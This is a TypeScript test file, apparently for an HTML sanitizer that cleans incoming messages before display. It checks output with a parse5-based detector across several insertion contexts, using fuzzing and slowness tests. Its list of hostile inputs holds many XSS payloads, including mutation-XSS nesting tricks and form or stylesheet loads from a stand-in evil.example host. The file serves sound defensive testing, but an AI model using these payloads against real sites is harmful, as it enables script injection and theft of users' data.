import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, html, parse, parseFragment, serialize } from 'parse5'
import { htmlOf } from '../../src/atom/content.js'
import { isXmlText } from '../../src/atom/template.js'
import { prepareMessages, shownMessage, textOfMessage } from '../../src/connections/message.js'

type Node = DefaultTreeAdapterTypes.Node

/** Finds active content in a tree of HTML, by rules of its own: elements, attributes and URLs. */
function activeIn(node: Node): string[] {
  const found: string[] = []
  if ('tagName' in node) {
    if (node.namespaceURI !== html.NS.HTML) found.push(`foreign ${node.tagName}`)
    if (activeElements.has(node.tagName)) found.push(node.tagName)
    for (const { name, value } of node.attrs) {
      if (
        /^on|^(action|autofocus|background|contenteditable|form.*|id|is|name|ping|srcdoc|srcset|xlink.*)$/i.test(name)
      ) {
        found.push(`${node.tagName} ${name}`)
      }
      if (/^(href|src|cite)$/.test(name) && !isInert(value)) found.push(`${name}=${value}`)
      if (name === 'style' && /url|expression|import|position|behavior|binding|[\\@<{]/i.test(value)) found.push(value)
    }
    if ('content' in node) found.push(...activeIn(node.content))
  }
  return [...found, ...('childNodes' in node ? node.childNodes.flatMap(activeIn) : [])]
}

const activeElements = new Set(
  (
    'script style iframe frame frameset object embed applet form input button select option textarea svg math meta base ' +
    'link noscript noembed noframes template title xmp plaintext audio video source track dialog marquee portal param'
  ).split(' '),
)

const isInert = (address: string) =>
  !URL.canParse(address, 'https://reader.example') ||
  ['https:', 'http:', 'mailto:', 'tel:'].includes(new URL(address, 'https://reader.example').protocol)

/** The ways in which clients insert a message into a page. */
const places: ((html: string) => Node)[] = [
  (html) => parse(html),
  (html) => parse(html, { scriptingEnabled: false }),
  (html) => parseFragment(html),
  (html) => parse(`<!DOCTYPE html><div>${html}</div><p title="after">after</p>`),
  (html) => parse(`<table><tr><td>${html}</td></tr></table>`),
  (html) => parse(`<table>${html}</table>`),
  (html) => parse(serialize(parse(html))),
  (html) => parse(serialize(parseFragment(serialize(parseFragment(html))))),
]

const expectInert = (html: string) => {
  for (const put of places) expect({ html, active: activeIn(put(html)) }).toEqual({ html, active: [] })
}

const hostile = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<ScRiPt >alert(1)</sCrIpT x>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<b onmouseover=alert(1)>b</b>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><frameset onload=alert(1)>',
  'x<tr onclick=alert(1)><td>',
  '<table><tr onclick=alert(1)><td onclick=alert(1)>x',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="&#106avascript&colon;alert(1)">a</a>',
  '<a href=" JAVASCRIPT:alert(1)">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<p style="background:url(//evil.example)">p</p>',
  '<p style="background:u\\72l(//evil.example)">p</p>',
  '<p style="width:expression(alert(1))">p</p>',
  '<div style="position:fixed;top:0;left:0">cover</div>',
  '<style>@import "//evil.example"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>',
  '<form><form><form id=x></form><form action=//evil.example>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg onload=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><desc><noscript></desc></noscript><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"><p title="</iframe><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<option>&lt;img src=x onerror=alert(1)&gt;</option>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ><img src=x onerror=alert(1)>?>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>',
  '</ <img src=x onerror=alert(1)>>',
  '<a<img src=x onerror=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example><link rel=stylesheet href=//evil.example>',
  '<object data=//evil.example><embed src=//evil.example><applet code=x>',
  '<video autoplay src=x onerror=alert(1)><audio src=x onerror=alert(1)><source onerror=alert(1)>',
  '<details open ontoggle=alert(1)>d</details>',
  '<a id=config name=body href=//evil.example>clobber</a>',
  '<p class=x id=y>p</p>',
  '<isindex action=javascript:alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="https://evil.example/?',
  "<img src='https://evil.example/?",
  '<b class="',
]

const harmless = [
  'Hello',
  'a < b && c > d',
  '&lt;b&gt; &amp; &copy; &nbsp;&#233;',
  '<p>Hello <b>Bo</b> & co</p>',
  '<p>one<p>two<br>three<br/>four',
  '<a href="https://x.example/?a=1&amp;b=2">here</a> or <a href=mailto:ann@example.com>write</a>',
  "<p style='color: red; font-size: 12px'>red</p>",
  '<ul>\n <li>one\n <li class="x">two</ul>',
  '<table border=1><tr><td colspan=2>x</table>',
  '<img src="https://x.example/i.png" alt="" width="10">',
  '<font color=red>x</font><center>y</center>',
  '<html><head></head><body><p>Hi</p></body></html>',
  '<h1 title="a &quot;b&quot; <c>">x</h1>',
]

test.each(hostile)('active content is removed: %s', (message) => {
  expectInert(shownMessage(message))
})

test.each(harmless)('a message without active content stays byte-equal: %s', (message) => {
  expectInert(message)
  expect(shownMessage(message)).toBe(message)
})

test('a cleaned message keeps its content', () => {
  const message = '<p onclick="x()">See <a href="javascript:x()">this</a>, <em>Bo</em>.</p><script>x()</script>'
  expect(shownMessage(message)).toBe('<p>See <a>this</a>, <em>Bo</em>.</p>')
  expect(shownMessage('<p style="color: red; background: url(x); font-weight: bold">p</p>')).toBe(
    '<p style="color: red; font-weight: bold">p</p>',
  )
})

const pieces = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostile) },
  { weight: 1, arbitrary: fc.constantFrom(...harmless) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      ...['<math>', '<svg>', '<style>', '<title>', '<noscript>', '<template>', '<table>', '<tr>', '<td>', '<select>'],
      ...['</math>', '</svg>', '</style>', '</title>', '</noscript>', '</template>', '</table>', '</p>', '<p>', '<a>'],
      ...['<mtext>', '<mglyph>', '<foreignObject>', '<desc>', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '"', "'", '>'],
      ...['<b title="', "<b title='", '&lt;', '&quot;', '&#x3c;', '`', '=', '/', '<textarea>', '</textarea>', '<xmp>'],
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 5 }) },
)

test('no mixture of hostile pieces is active, wherever it is put', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 7 }), (pieces) => {
      const message = pieces.join('').toWellFormed()
      expectInert(shownMessage(message))
    }),
    { numRuns: 300 },
  )
})

test('a message with the same meaning after cleaning stays unchanged', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...harmless, ' ', '\n', '</p>', '<p>'), { maxLength: 6 }), (pieces) => {
      const message = pieces.join('')
      const shown = shownMessage(message)
      if (serialize(parse(shown)) === serialize(parse(message))) expect(shown).toBe(message)
    }),
  )
})

describe('as plain text', () => {
  test('a message sent as text stays unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }).filter(isXmlText), (text) => {
        expect(textOfMessage(htmlOf(text))).toBe(text)
      }),
    )
    for (const text of ['a <b> c', '  <script>\n\n\n&amp; ]]>\t\r\n', 'AT&T &lt;']) {
      expect(textOfMessage(htmlOf(text))).toBe(text)
    }
  })

  test.each([
    ['<p>One</p><p>two</p>', 'One\n\ntwo'],
    ['<p>One</p>\n\n  <p>two</p>\n', 'One\n\ntwo'],
    ['one<br>two<br/>\nthree', 'one\ntwo\nthree'],
    ['<ul><li>one</li>\n<li>two</li></ul>', 'one\ntwo'],
    ['see <a href="https://x.example/">here</a>', 'see here (https://x.example/)'],
    ['<a href="https://x.example/">https://x.example/</a> <a href="mailto:a@b.example">a@b.example</a>', undefined],
    ['<a href="javascript:x()">here</a><script>alert(1)</script>', 'here'],
    ['<b>a &amp; b</b> &lt;c&gt;', 'a & b <c>'],
    ['', ''],
  ])('%s', (message, text = 'https://x.example/ a@b.example') => {
    expect(textOfMessage(message)).toBe(text)
  })
})

describe('messages designed to be slow', () => {
  const letters = Array.from({ length: 400 }, (_, at) => `<b class=${at.toString(36)}>`).join('')
  const messages = [
    `<p>${letters.slice(0, 2000)}`.replace(/<[^>]*$/, '') + '<p>x'.repeat(480),
    '<b>'.repeat(1300),
    '<table><td>'.repeat(360),
    `<a ${Array.from({ length: 900 }, (_, at) => at.toString(36)).join(' ')}>`,
    '<'.repeat(4000),
    '<!--'.repeat(1000),
    '<p style="' + 'color:rgb('.repeat(390) + '">',
    '<a href="' + '&#x6a;'.repeat(660) + '">',
    '<svg><style>'.repeat(330),
    '</p>'.repeat(1000),
  ]

  test('make no huge trees: each is passive, and no longer as text', () => {
    for (const message of messages) {
      expect(activeIn(parseFragment(shownMessage(message)))).toEqual([])
      expect(textOfMessage(message).length).toBeLessThanOrEqual(shownMessage(message).length)
    }
  })

  test('leave time for other requests', async () => {
    let turns = 0
    const timer = setInterval(() => turns++, 0)
    await prepareMessages(messages.flatMap((message) => Array.from({ length: 10 }, (_, at) => `${message}${at}`)))
    clearInterval(timer)
    expect(turns).toBeGreaterThan(1)
  })
})
